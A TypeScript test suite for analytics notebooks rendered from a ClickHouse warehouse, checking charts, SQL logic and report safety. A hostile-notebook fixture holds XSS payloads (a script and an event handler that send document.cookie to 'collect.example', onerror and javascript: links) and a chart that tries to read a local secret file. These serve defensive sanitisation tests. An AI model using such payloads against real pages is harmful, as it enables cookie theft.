import { before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import type { ClickHouseClient } from '@clickhouse/client';
import { chromium, type Browser } from 'playwright-core';
import { writeWarehouseWorld } from '../test/worlds/warehouse-world.ts';
import { AnalystWarehouse, CLI_LIMITS, runAnalystQuery } from '../platform/analyst-sql/index.ts';
import { refreshMarts } from '../pipelines/warehouse/marts.ts';
import { migrateWarehouse, WAREHOUSE_MIGRATIONS_DIR } from '../pipelines/warehouse/migrate.ts';
import { quietLog, requireServices, tempDir, testClickHouse, testConfig, useClickHouseDatabase } from '../test/support/services.ts';
import { InputError } from '../platform/errors.ts';
import { DESTINATIONS } from '../domain/generator/catalogue-data.ts';
import { parseNotebook, type Cell } from './engine/parse-notebook.ts';
import { runNotebook, type NotebookReport, type RunQuery } from './engine/run-notebook.ts';

/**
 * Every starter notebook renders on a sample world (written into the warehouse, with past forecasts,
 * recommendations and review decisions so that every mart has rows): each chart is an SVG with marks drawn and its
 * axes titled, month and weekday names are names, the seasonal index leaves partial and future months out, every
 * query goes through the analyst guard, and one report is looked at in headless Chromium.
 */
const NOTEBOOKS = path.dirname(new URL(import.meta.url).pathname);
const files = fs.readdirSync(NOTEBOOKS).filter((f) => f.endsWith('.md') && f !== 'README.md').sort();
const CHROMIUM = '/usr/bin/chromium';
const chromiumSkip = fs.existsSync(CHROMIUM) ? undefined : `Chromium is not installed at ${CHROMIUM}; skipping the report screenshot`;
if (chromiumSkip && requireServices) throw new Error(`${chromiumSkip}, and REQUIRE_SERVICES=1 needs it`);

let ch: ClickHouseClient;
let runQuery: RunQuery;
const reports = new Map<string, NotebookReport>();
const DAY = 86_400_000;
const isoDay = (ms: number) => new Date(ms).toISOString().slice(0, 10);

/** The groups of drawn marks in a Vega SVG, with what is inside each. */
function markGroups(svg: string): Array<{ type: string; inner: string }> {
  return [...svg.matchAll(/<g class="mark-(\w+) role-mark[^"]*"[^>]*>([\s\S]*?)<\/g>/g)].map((m) => ({ type: m[1], inner: m[2] }));
}

function axisTitles(svg: string): string[] {
  return [...svg.matchAll(/role-axis-title"[^>]*>\s*<text[^>]*>([^<]*)<\/text>/g)].map((m) => m[1]);
}

/** The rows of one SQL cell of a starter notebook, as the report gets them. */
async function cellRows(file: string, name: string, params: Record<string, unknown> = {}): Promise<Array<Record<string, unknown>>> {
  const cell = parseNotebook(fs.readFileSync(path.join(NOTEBOOKS, file), 'utf8')).cells.find((c): c is Extract<Cell, { kind: 'sql' }> => c.kind === 'sql' && c.name === name)!;
  const result = await runQuery({ sql: cell.sql, params, format: 'json' });
  if (result.format !== 'json') throw new Error('json expected');
  return result.rows.map((r) => Object.fromEntries(result.columns.map((c, i) => [c.name, r[i]])));
}

const seasonalIndex = () => cellRows('seasonality.md', 'seasonal_index');

describe('starter notebooks on a sample world', () => {
  before(async () => {
    ch = (await testClickHouse()).client;
    await useClickHouseDatabase(ch, 'notebooks_world');
    await migrateWarehouse(ch, quietLog);
    const today = new Date().toISOString().slice(0, 10);
    await writeWarehouseWorld(ch, { customers: 300, years: 3, seed: 7, endDate: today });
    const now = Date.parse(`${today}T00:00:00Z`);
    // A demand model generated 60 days ago: its daily forecasts of the 59 days since, against what was booked.
    await ch.command({
      query: `INSERT INTO demand_forecasts (model_version, series_id, entity_code, measure, date, mean, lo80, hi80, lo95, hi95, generated_at)
              SELECT 'demand-000001', concat('destination/', code, '/travellers'), code, 'travellers', toDate('${isoDay(now - 60 * DAY)}') + 1 + number,
                     3, 1, 6, 0, 9, toDateTime64('${isoDay(now - 60 * DAY)} 00:00:00', 3, 'UTC')
              FROM destinations_latest CROSS JOIN (SELECT arrayJoin(range(59)) AS number) AS days`,
    });
    // A recommender batch of 200 days ago: each customer's two most booked itineraries before it.
    await ch.command({
      query: `INSERT INTO customer_recommendations (model_version, customer_id, rank, itinerary_id, score, generated_at)
              SELECT 'recommender-000001', customer_id, toUInt8(rank), itinerary_id, 1 / rank, toDateTime64('${isoDay(now - 200 * DAY)} 00:00:00', 3, 'UTC')
              FROM (SELECT customer_id, itinerary_id, row_number() OVER (PARTITION BY customer_id ORDER BY count() DESC, itinerary_id) AS rank
                    FROM bookings_latest WHERE customer_id IS NOT NULL AND itinerary_id IS NOT NULL GROUP BY customer_id, itinerary_id)
              WHERE rank <= 2`,
    });
    await ch.command({
      query: `INSERT INTO suggestion_decisions (id, suggestion_id, action, decided_price, reason, decided_by, decided_by_role, auto_accept_band_id, resulting_version, quotation_id, destination_id, service_level, departure_date, party_size, cost_total, current_price, suggested_price, lo80, hi80, guardrail, model_version, feature_snapshot_id, features, decided_at)
              SELECT number + 1, number + 1, ['accept', 'override', 'reject', 'auto_accept'][1 + number % 4], 950, NULL, ['ana', 'luis', 'band'][1 + number % 3], 'pricing-manager', NULL, NULL, number + 1, 1, 'superior', '2025-01-01', 2, 700, 1000, 1000, 900, 1100, NULL,
                     ['price-000001', 'price-000002'][1 + intDiv(number, 20)], NULL, '{}', toDateTime64('${isoDay(now - 30 * DAY)} 10:00:00', 6, 'UTC') + number * 3600
              FROM system.numbers LIMIT 40`,
    });
    await refreshMarts(ch);
    const warehouse = new AnalystWarehouse(testConfig(), ch);
    runQuery = (query) => runAnalystQuery(warehouse, { ...query, limits: CLI_LIMITS });
  });

  it('are there: one per mart and the three of the old .sql notebooks', () => {
    assert.deepEqual(files, [
      'booking-pace.md',
      'destinations-daily.md',
      'forecast-accuracy.md',
      'pricing.md',
      'recommendations.md',
      'revenue-and-margin.md',
      'sales-funnel.md',
      'seasonality.md',
      'suggestion-acceptance.md',
    ]);
  });

  it('read ReplacingMergeTree tables only through FINAL or their _latest view', () => {
    const replacing = new Set<string>();
    for (const file of fs.readdirSync(WAREHOUSE_MIGRATIONS_DIR).filter((f) => f.endsWith('.sql'))) {
      for (const m of fs.readFileSync(path.join(WAREHOUSE_MIGRATIONS_DIR, file), 'utf8').matchAll(/CREATE TABLE IF NOT EXISTS (\w+)\s*\(([\s\S]*?)\)\s*ENGINE\s*=\s*ReplacingMergeTree/g)) replacing.add(m[1]);
    }
    assert.ok(replacing.has('bookings') && replacing.has('quotations'));
    for (const file of files) {
      for (const cell of parseNotebook(fs.readFileSync(path.join(NOTEBOOKS, file), 'utf8')).cells) {
        if (cell.kind !== 'sql') continue;
        for (const m of cell.sql.matchAll(/\b(?:FROM|JOIN)\s+(\w+)(\s+(?:AS\s+\w+\s+)?FINAL\b)?/gi)) {
          if (replacing.has(m[1]) && !m[2]) assert.fail(`${file} (${cell.name}) reads ${m[1]} without FINAL; use ${m[1]}_latest`);
        }
      }
    }
  });

  for (const file of files) {
    it(`renders ${file}: every chart drawn, its axes titled`, async () => {
      const notebook = parseNotebook(fs.readFileSync(path.join(NOTEBOOKS, file), 'utf8'), file);
      const report = await runNotebook(notebook, {}, runQuery);
      reports.set(file, report);
      const charts = report.sections.filter((s) => s.kind === 'chart');
      assert.equal(charts.length, notebook.cells.filter((c) => c.kind === 'chart').length);
      assert.ok(charts.length >= 1);
      for (const chart of charts) {
        const cell = /data-cell="([^"]+)"/.exec(chart.html)![1];
        const marks = markGroups(chart.html).filter((g) => /<path[^>]*\bd="M/.test(g.inner));
        assert.ok(marks.length > 0, `${file}: the chart of ${cell} draws marks`);
        const titles = axisTitles(chart.html);
        assert.ok(titles.length >= 2 && titles.every((t) => t.trim() !== ''), `${file}: the chart of ${cell} has titled axes (${JSON.stringify(titles)})`);
      }
      assert.doesNotMatch(report.html, /<script|https?:\/\/(?!www\.w3\.org)/, 'self-contained: no script, nothing fetched');
    });
  }

  it("draws a chart from its SQL cell's rows only: a layer's own data from a file or a URL is refused, nothing read", async () => {
    const secret = path.join(tempDir('notebook-file'), 'not-for-the-report.csv');
    fs.writeFileSync(secret, 'line\nsk_live_do_not_print\n');
    for (const url of [`file://${secret}`, secret, 'http://127.0.0.1:9/x.csv']) {
      const notebook = parseNotebook(
        ['---', 'title: A chart that reaches out', '---', '```sql n', 'SELECT 1 AS x', '```', '```vega-lite n',
          JSON.stringify({ layer: [{ mark: 'point', encoding: { x: { field: 'x', type: 'quantitative' } } }, { mark: 'text', data: { url, format: { type: 'csv' } }, encoding: { text: { field: 'line' } } }] }),
          '```'].join('\n'),
        'reaching.md',
      );
      await assert.rejects(runNotebook(notebook, {}, runQuery), (err: Error & { field?: string }) => {
        assert.match(err.message, /chart of sql cell n \(line 7\): a chart draws its SQL cell's rows only; it may not load/);
        assert.equal(err.field, 'spec');
        return true;
      }, url);
    }
  });

  it('refuses a chart spec it cannot draw, or one that would link out, naming the cell and its line: no crash', async () => {
    const x = { field: 'x', type: 'quantitative' };
    const cases: Array<[Record<string, unknown>, RegExp]> = [
      // vega-lite threw a TypeError ("reading 'filled'") that said nothing about the mark.
      [{ mark: 'blob', encoding: { x } }, /spec\.mark: "blob" is not a Vega-Lite mark/],
      // vega's handling of href failed outside the render's promise and took the whole process down.
      [{ mark: 'point', encoding: { x, href: { field: 'page', type: 'nominal' } } }, /spec\.encoding\.href: a report links to and fetches nothing/],
      [{ layer: [{ mark: { type: 'image', width: 20 }, encoding: { x, url: { field: 'page', type: 'nominal' } } }] }, /spec\.layer\[0\]\.mark: .*may not draw image marks/],
      [{ mark: 'point', encoding: { x }, transform: [{ calculate: 'datum.x +', as: 'y' }] }, /the chart spec does not compile: /],
    ];
    for (const [spec, reason] of cases) {
      const notebook = parseNotebook(['# Bad chart', '```sql n', "SELECT 1 AS x, 'https://example.com/' AS page", '```', '```vega-lite n', JSON.stringify(spec), '```'].join('\n'), 'bad-chart.md');
      await assert.rejects(runNotebook(notebook, {}, runQuery), (err: Error & { field?: string }) => {
        assert.ok(err instanceof InputError, `${err.name}: ${err.message}`);
        assert.match(err.message, /^chart of sql cell n \(line 5\): /);
        assert.match(err.message, reason);
        assert.equal(err.field, 'spec');
        return true;
      }, JSON.stringify(spec));
    }
  });

  /** A notebook passed around, written by someone who wants the reader's browser to run or fetch something. */
  const HOSTILE = [
    '---', 'title: Pace notes from a colleague', '---',
    'Cusco is <b onmouseover="fetch(`https://collect.example/?c=` + document.cookie)">ahead</b> of last year.',
    '', '<script>fetch("https://collect.example/" + document.cookie)</script>', '',
    '<img src="https://tracker.example/pixel.gif" onerror="alert(1)">', '',
    '![the team](https://cdn.example/team.png) ![a dot](data:image/png;base64,iVBORw0KGgo=)', '',
    '[the details](javascript:alert(2)) and [the handbook](https://spirit.example/handbook)', '',
    // An unclosed tag after an opening <kbd>: the lexer took the rest as raw text, already escaped.
    'Press <kbd> then <img src=https://tracker.example/x.gif onerror=alert(3) and wait',
  ].join('\n');

  it('shows raw HTML of the Markdown as text, and no remote image: no script, no event handler, nothing fetched', async () => {
    // marked passed raw HTML through: the report ran the script and fetched the pixel and the image on opening.
    const report = await runNotebook(parseNotebook(HOSTILE, 'hostile.md'), {}, runQuery);
    reports.set('hostile.md', report);
    const tags = [...report.html.matchAll(/<([a-z][a-z0-9-]*)\b([^>]*)>/gi)];
    assert.deepEqual(tags.filter(([, name]) => /^(script|iframe|object|embed|link)$/i.test(name)).map(([tag]) => tag), []);
    for (const [tag, name, attributes] of tags) {
      assert.doesNotMatch(attributes, /\son[a-z]+\s*=/i, `no event handler: ${tag}`);
      assert.doesNotMatch(attributes, /javascript:/i, `no script URL: ${tag}`);
      if (name.toLowerCase() === 'img') assert.match(attributes, /^\s*src="data:image\/png;base64,/, `only an embedded image: ${tag}`);
    }
    assert.match(report.html, /&lt;script&gt;fetch/, 'the script is shown as the text it is');
    assert.match(report.html, /\[image not included: the team; a report fetches nothing/);
    assert.match(report.html, /<a href="https:\/\/spirit\.example\/handbook">the handbook<\/a>/, 'a web link stays a link');
  });

  it('opens that report in headless Chromium without running or fetching anything', { skip: chromiumSkip }, async () => {
    const file = path.join(tempDir('notebook-hostile'), 'hostile.html');
    fs.writeFileSync(file, reports.get('hostile.md')!.html);
    let browser: Browser | undefined;
    try {
      browser = await chromium.launch({ executablePath: CHROMIUM, headless: true, args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update'] });
      const page = await browser.newPage();
      const happened: string[] = [];
      page.on('request', (r) => r.url() !== `file://${file}` && !r.url().startsWith('data:') && happened.push(`request ${r.url()}`));
      page.on('dialog', (d) => {
        happened.push(`dialog ${d.message()}`);
        void d.dismiss();
      });
      await page.goto(`file://${file}`, { waitUntil: 'load' });
      await page.hover('b').catch(() => undefined);
      await page.waitForTimeout(300);
      assert.deepEqual(happened, []);
      assert.equal(await page.$$eval('script', (s) => s.length), 0);
    } finally {
      await browser?.close();
    }
  });

  it('refuses a destination code that matches none, naming the parameter, where every figure was 0', async () => {
    const text = fs.readFileSync(path.join(NOTEBOOKS, 'booking-pace.md'), 'utf8');
    const notebook = parseNotebook(text, 'booking-pace.md');
    // The README's example was destination=puno where the code is puno-titicaca: the report said 0 everywhere.
    await assert.rejects(runNotebook(notebook, { destination: 'titicaca' }, runQuery), (err: Error & { field?: string }) => {
      assert.ok(err instanceof InputError);
      assert.match(err.message, /^--param destination=titicaca: no such destination; one of .*\bcusco\b/);
      assert.equal(err.field, 'param');
      return true;
    });
    const puno = await runNotebook(notebook, { destination: 'puno' }, runQuery);
    assert.equal(puno.params.destination, 'puno');
    // The examples in the notebook's own text are codes of the booking system's catalogue.
    const examples = [...text.matchAll(/--param destination=([\w-]+)/g)].map((m) => m[1]);
    assert.ok(examples.length > 0);
    for (const code of examples) assert.ok(DESTINATIONS.some((d) => d.code === code), `${code} is a destination code of the catalogue`);
  });

  it("compares this year's bookings with last year's made by the same calendar day", async () => {
    // last_year_at_this_point counted last year's bookings made N days before departure, N measured to the first of
    // the month: for departures late in the month, bookings made up to a month after today's date a year ago.
    const today = new Date().toISOString().slice(0, 10);
    const [y, m, d] = today.split('-');
    const sameDayLastYear = `${Number(y) - 1}-${m}-${m === '02' && d === '29' ? '28' : d}`;
    const [cusco] = await (await ch.query({ query: `SELECT id FROM destinations_latest WHERE code = 'cusco'`, format: 'JSONEachRow' })).json<{ id: number }>();
    const bookings = await (
      await ch.query({
        query: `SELECT toString(toDate(b.booked_at)) AS booked, toString(toStartOfMonth(b.departure_date)) AS month, b.party_size AS travellers
                FROM bookings_latest AS b LEFT JOIN itineraries_latest AS i ON i.id = b.itinerary_id
                WHERE b.status != 'cancelled' AND ifNull(coalesce(b.destination_id, nullIf(i.destination_id, 0)), 0) = ${cusco.id}`,
        format: 'JSONEachRow',
      })
    ).json<{ booked: string; month: string; travellers: number }>();
    let bookedLater = 0;
    for (const monthsAhead of [1, 2, 3]) {
      const month = new Date(Date.UTC(Number(y), Number(m) - 1 + monthsAhead, 1));
      const thisMonth = month.toISOString().slice(0, 10);
      month.setUTCFullYear(month.getUTCFullYear() - 1);
      const lastMonth = month.toISOString().slice(0, 10);
      const sum = (rows: typeof bookings) => rows.reduce((total, b) => total + Number(b.travellers), 0);
      const lastYear = bookings.filter((b) => b.month === lastMonth);
      bookedLater += lastYear.filter((b) => b.booked > sameDayLastYear).length;
      const [row] = await cellRows('booking-pace.md', 'at_today', { destination: 'cusco', months_ahead: monthsAhead });
      assert.equal(row.this_year, sum(bookings.filter((b) => b.month === thisMonth)), `${thisMonth}: this year`);
      assert.equal(row.last_year_at_this_point, sum(lastYear.filter((b) => b.booked <= sameDayLastYear)), `${lastMonth}: booked by ${sameDayLastYear}`);
    }
    assert.ok(bookedLater > 0, "some of last year's bookings for those months were made after the same day: the rule matters");
  });

  it('counts a month of departures only once bookings were recorded for the usual lead time before it', async () => {
    // Only the first month was dropped; the next ones missed every booking made before the data began, so their
    // seasonal index came out low.
    const facts = await (
      await ch.query({ query: `SELECT toString(toDate(booked_at)) AS booked, greatest(0, dateDiff('day', toDate(booked_at), departure_date)) AS lead, status FROM bookings_latest`, format: 'JSONEachRow' })
    ).json<{ booked: string; lead: number; status: string }>();
    const firstBooking = facts.map((f) => f.booked).sort()[0];
    const leads = facts.filter((f) => f.status !== 'cancelled').map((f) => Number(f.lead)).sort((a, b) => a - b);
    const p90 = leads[Math.floor(0.9 * leads.length)];
    assert.ok(p90 > 31, `trips are booked well ahead in the sample world (${p90} days)`);
    const earliest = Date.parse(firstBooking) + p90 * DAY;
    const start = new Date(earliest);
    const firstCounted = start.getUTCDate() === 1 ? earliest : Date.UTC(start.getUTCFullYear(), start.getUTCMonth() + 1, 1);

    const monthly = await cellRows('seasonality.md', 'monthly');
    const firstShown = Math.min(...monthly.map((r) => Date.parse(String(r.month))));
    assert.ok(firstShown >= earliest, `the chart starts ${isoDay(firstShown)}, ${p90} days after the first booking (${firstBooking}) is ${isoDay(earliest)}`);
    assert.equal(isoDay(firstShown), isoDay(firstCounted));

    // Each calendar month is averaged over the complete months from there to last month, and no others.
    const expected = new Map<number, number>();
    const now = new Date();
    for (let t = new Date(firstCounted); t < new Date(Date.UTC(now.getUTCFullYear(), now.getUTCMonth(), 1)); t.setUTCMonth(t.getUTCMonth() + 1)) {
      expected.set(t.getUTCMonth() + 1, (expected.get(t.getUTCMonth() + 1) ?? 0) + 1);
    }
    const index = await seasonalIndex();
    assert.ok(index.length > 0);
    for (const row of index) assert.equal(row.months_averaged, expected.get(Number(row.month_number)), `${row.destination} ${row.month}`);
  });

  it('names months and weekdays', () => {
    const seasonality = reports.get('seasonality.md')!.html;
    for (const name of ['Jan', 'Jun', 'Dec', 'Mon', 'Sun']) assert.match(seasonality, new RegExp(`>${name}<`));
  });

  it('leaves partial and future months out of the seasonal index', async () => {
    const before = await seasonalIndex();
    assert.ok(before.length > 0 && before.every((r) => Number(r.months_averaged) >= 1));
    // A large party booked today for next month, and one travelling this month: neither month is complete.
    const now = Date.now();
    const nextMonth = new Date(now);
    nextMonth.setUTCMonth(nextMonth.getUTCMonth() + 1, 15);
    await ch.command({
      query: `INSERT INTO bookings (id, customer_id, itinerary_id, destination_id, departure_date, party_size, status, channel, total_price, total_cost, currency, booked_at, source, created_at, updated_at)
              VALUES (900001, 1, NULL, 1, '${isoDay(nextMonth.getTime())}', 500, 'confirmed', 'web', 1000, 700, 'USD', now64(), 'web', now64(), now64()),
                     (900002, 1, NULL, 1, '${isoDay(now)}', 400, 'confirmed', 'web', 1000, 700, 'USD', now64(), 'web', now64(), now64())`,
    });
    await refreshMarts(ch);
    assert.deepEqual(await seasonalIndex(), before);
  });

  it('looks right in headless Chromium: every chart laid out, nothing failing', { skip: chromiumSkip }, async () => {
    const report = reports.get('seasonality.md')!;
    const dir = tempDir('notebook-report');
    const file = path.join(dir, 'seasonality.html');
    fs.writeFileSync(file, report.html);
    let browser: Browser | undefined;
    try {
      browser = await chromium.launch({ executablePath: CHROMIUM, headless: true, args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update'] });
      const page = await browser.newPage({ viewport: { width: 1100, height: 900 } });
      const problems: string[] = [];
      page.on('console', (m) => m.type() === 'error' && problems.push(m.text()));
      page.on('requestfailed', (r) => problems.push(`request ${r.url()}`));
      await page.goto(`file://${file}`);
      assert.equal(await page.title(), report.title);
      const boxes = await page.$$eval('figure.chart svg', (svgs) => svgs.map((s) => s.getBoundingClientRect()).map((r) => ({ width: r.width, height: r.height })));
      assert.equal(boxes.length, 3);
      for (const box of boxes) assert.ok(box.width > 300 && box.height > 150, `a chart is laid out (${box.width}×${box.height})`);
      const heatmapCells = await page.$$eval('figure.chart svg g.mark-rect path', (paths) => paths.filter((p) => p.getBoundingClientRect().width > 5).length);
      assert.ok(heatmapCells >= 12, `the seasonal index heatmap shows its cells (${heatmapCells})`);
      const png = await page.screenshot({ fullPage: true, path: path.join(dir, 'seasonality.png') });
      assert.ok(png.length > 20_000, `a screenshot with content (${png.length} bytes)`);
      assert.deepEqual(problems, []);
    } finally {
      await browser?.close();
    }
  });
});
